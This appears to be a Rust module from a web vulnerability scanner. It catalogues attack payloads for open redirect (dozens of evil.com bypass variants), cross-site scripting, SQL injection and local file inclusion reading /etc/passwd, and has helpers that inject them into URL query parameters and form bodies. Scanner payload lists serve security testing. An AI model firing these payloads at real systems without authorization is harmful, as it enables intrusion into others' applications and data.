// Copyright (c) 2026 Seitti Labs Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Seitti Labs Oy - Payload Catalog
 * Per-class payload tables and request builders
 *
 * @copyright 2026 Seitti Labs Oy
 * @license Proprietary - Enterprise Edition
 */

use url::Url;

/// Vulnerability classes with payload support
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum VulnClass {
    OpenRedirect,
    Xss,
    Sqli,
    Lfi,
}

/// Open-redirect payloads. `{host}` templates below are expanded against
/// the configured canary host; the table keeps the literal default so the
/// catalog stays greppable against real traffic.
const OPEN_REDIRECT_PAYLOADS: &[&str] = &[
    "https://evil.com",
    "//evil.com",
    "/\\evil.com",
    "///evil.com",
    "https://evil.com/%2e%2e",
    "https://evil.com/%2f",
    "https://evil.com/%5c",
    "https://evil.com/%09",
    "https://evil.com/%00",
    "https://evil.com#@legit.com",
    "https://evil.com?@legit.com",
    "javascript://evil.com",
    "///evil.com/%2e%2e",
    "https://evil.com%2f..",
    "https://evil.com%5c..",
    "https://evil.com%2e%2e%2f",
    "https://evil.com%2e%2e%5c",
    "https://evil.com/%252e%252e",
    "https://evil.com/%2e%2e%2f",
    "https://evil.com/%2e%2e%5c",
    "https://evil.com/%5c%5c",
    "https://evil.com/%2f%2f",
    "https://evil.com/%5c%2f",
    "https://evil.com/%2f%5c",
    "https://evil.com/%2e%2e%2f%2e%2e%2f",
    "https://evil.com/%2e%2e%5c%2e%2e%5c",
    "https://evil.com/%2e%2e/%2e%2e/",
    "https://evil.com/%2e%2e\\%2e%2e\\",
    "https://evil.com/%40evil.com",
    "https://evil.com%40evil.com",
    "https://evil.com%23@legit.com",
    "https://evil.com%3F@legit.com",
    "https://evil.com%2F%40evil.com",
    "https://evil.com%2F%23@legit.com",
    "https://evil.com%2F%3F@legit.com",
    "https://evil.com%2F%2Flegit.com",
    "https://evil.com%2F%2F%2Flegit.com",
    "https://evil.com%2F%2F%2F%2Flegit.com",
    "https://evil.com%2F%2F%2F%2F%2Flegit.com",
    "https://evil.com/%252e%252e%252f",
    "https://evil.com/%252e%252e%255c",
    "https://evil.com/%252f%2540evil.com",
    "https://evil.com/%2523@legit.com",
    "https://evil.com/%253f@legit.com",
];

const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "\"onmouseover=\"alert(1)",
];

const SQLI_PAYLOADS: &[&str] = &[
    "'",
    "''",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR 1=1--",
    "1' ORDER BY 10--",
    "' UNION SELECT NULL--",
];

const LFI_PAYLOADS: &[&str] = &[
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/passwd%00",
    "php://filter/convert.base64-encode/resource=index.php",
];

/// Static payload list for a class
pub fn payloads_for(class: VulnClass) -> &'static [&'static str] {
    match class {
        VulnClass::OpenRedirect => OPEN_REDIRECT_PAYLOADS,
        VulnClass::Xss => XSS_PAYLOADS,
        VulnClass::Sqli => SQLI_PAYLOADS,
        VulnClass::Lfi => LFI_PAYLOADS,
    }
}

/// Open-redirect payloads rewritten for a non-default canary host
pub fn open_redirect_payloads(canary_host: &str) -> Vec<String> {
    OPEN_REDIRECT_PAYLOADS
        .iter()
        .map(|p| p.replace("evil.com", canary_host))
        .collect()
}

/// Clone a URL with one query parameter set to a payload. The parameter
/// is replaced in place when present and appended otherwise.
pub fn inject_query(url: &str, param: &str, payload: &str) -> Option<String> {
    let mut u = Url::parse(url).ok()?;
    let pairs: Vec<(String, String)> = u
        .query_pairs()
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect();
    {
        let mut qp = u.query_pairs_mut();
        qp.clear();
        let mut injected = false;
        for (k, v) in &pairs {
            if k == param {
                qp.append_pair(k, payload);
                injected = true;
            } else {
                qp.append_pair(k, v);
            }
        }
        if !injected {
            qp.append_pair(param, payload);
        }
    }
    Some(u.to_string())
}

/// urlencoded form body carrying one fuzzed field
pub fn form_body(param: &str, payload: &str) -> String {
    format!(
        "{}={}",
        urlencoding::encode(param),
        urlencoding::encode(payload)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_open_redirect_catalog_shape() {
        let payloads = payloads_for(VulnClass::OpenRedirect);
        assert!(payloads.len() > 40);
        assert!(payloads.contains(&"//evil.com"));
        assert!(payloads.contains(&"javascript://evil.com"));
    }

    #[test]
    fn test_canary_host_substitution() {
        let payloads = open_redirect_payloads("attacker.example");
        assert!(payloads.iter().all(|p| !p.contains("evil.com")));
        assert!(payloads.contains(&"//attacker.example".to_string()));
    }

    #[test]
    fn test_inject_query_replaces_only_target_param() {
        let url = "https://example.com/login?next=%2Fhome&lang=en";
        let injected = inject_query(url, "next", "https://evil.com").unwrap();
        let parsed = Url::parse(&injected).unwrap();
        let pairs: Vec<(String, String)> = parsed
            .query_pairs()
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect();
        assert!(pairs.contains(&("next".to_string(), "https://evil.com".to_string())));
        assert!(pairs.contains(&("lang".to_string(), "en".to_string())));
    }

    #[test]
    fn test_inject_query_appends_missing_param() {
        let injected = inject_query("https://example.com/search", "q", "'").unwrap();
        assert_eq!(injected, "https://example.com/search?q=%27");
    }

    #[test]
    fn test_inject_query_invalid_url() {
        assert!(inject_query("not a url", "next", "x").is_none());
    }

    #[test]
    fn test_form_body_encodes() {
        assert_eq!(
            form_body("return url", "https://evil.com/?a=1"),
            "return%20url=https%3A%2F%2Fevil.com%2F%3Fa%3D1"
        );
    }
}
